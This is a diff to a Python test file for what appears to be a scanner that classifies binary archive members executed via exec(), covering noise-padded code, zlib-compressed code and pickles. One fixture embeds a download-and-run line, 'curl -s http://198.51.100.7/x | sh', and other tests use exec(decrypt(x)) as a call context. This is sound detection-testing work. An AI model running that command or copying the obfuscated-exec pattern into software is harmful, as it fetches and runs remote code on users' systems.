@@ -2,6 +2,7 @@
 
 import base64
 import codecs
+import zlib
 
 import pytest
 
@@ -68,12 +69,51 @@ def test_a_text_too_long_to_compile_counts_as_python() -> None:
     assert FileType.PYTHON == member.file_type
 
 
-def test_binary_data_that_is_executed_is_a_problem() -> None:
-    executed = RawMember("a.bin", 9, FileType.BINARY, kept=False)
-    started = RawMember("b.bin", 9, FileType.BINARY, kept=False)
+NOISE = b"# coding: latin-1\n# " + bytes([1, 2, 0x80, 0xFE]) * 2000 + b"\n"
+
+
+def binary(data: bytes, path: str = "a.bin", *, held: bool = True) -> RawMember:
+    return RawMember(path, len(data), FileType.BINARY, head=data[:4096], kept=False, spare=data if held else b"")
+
+
+@pytest.mark.parametrize("call_context", ["exec(open('a.bin').read())", ""])
+def test_binary_data_that_is_python_in_its_encoding_is_python(call_context: str) -> None:
+    member = binary(NOISE + CODE)
+    mark_as_executed(member, call_context, BUDGET)
+    assert (FileType.PYTHON, NOISE + CODE, "", True) == (member.file_type, member.data, member.problem, member.kept)
+
+
+@pytest.mark.parametrize(("problem", "call_context"), [("executed binary", "exec(decrypt(x))"), ("", "")])
+def test_other_binary_data_is_searched_and_named_if_only_python_reads_it(problem: str, call_context: str) -> None:
+    member = binary(NOISE + b"curl -s http://198.51.100.7/x | sh\n")
+    mark_as_executed(member, call_context, BUDGET)
+    assert (FileType.TEXT, problem, True) == (member.file_type, member.problem, b"curl" in member.data)
+
+
+def test_binary_data_that_is_code_once_it_is_inflated_gets_that_content() -> None:
+    member = binary(zlib.compress(CODE * 9))
+    mark_as_executed(member, "exec(zlib.decompress(open('a.bin', 'rb').read()))", BUDGET)
+    assert (FileType.PYTHON, CODE * 9) == (member.file_type, member.data)
+
+
+def test_binary_data_that_was_not_held_is_a_problem() -> None:
+    for call_context in ("exec(x)", ""):
+        member = binary(b"\0" * 9, held=False)
+        mark_as_executed(member, call_context, BUDGET)
+        assert ("executed binary", FileType.BINARY) == (member.problem, member.file_type)
+
+
+def test_a_long_binary_is_python_only_if_python_executes_it() -> None:
+    executed, started = binary(NOISE * 40), binary(NOISE * 40)
     mark_as_executed(executed, "exec(x)", BUDGET)
     mark_as_executed(started, "", BUDGET)
-    assert ("executed binary", "", FileType.BINARY) == (executed.problem, started.problem, executed.file_type)
+    assert (FileType.PYTHON, FileType.TEXT) == (executed.file_type, started.file_type)
+
+
+def test_a_pickle_that_is_executed_is_examined_as_a_pickle() -> None:
+    member = RawMember("a.pkl", 3, FileType.BINARY, b"\x80\x04.", b"\x80\x04.")
+    assert 0 == mark_as_executed(member, "exec(x)", BUDGET)
+    assert (FileType.BINARY, "") == (member.file_type, member.problem)
 
 
 @pytest.mark.parametrize(
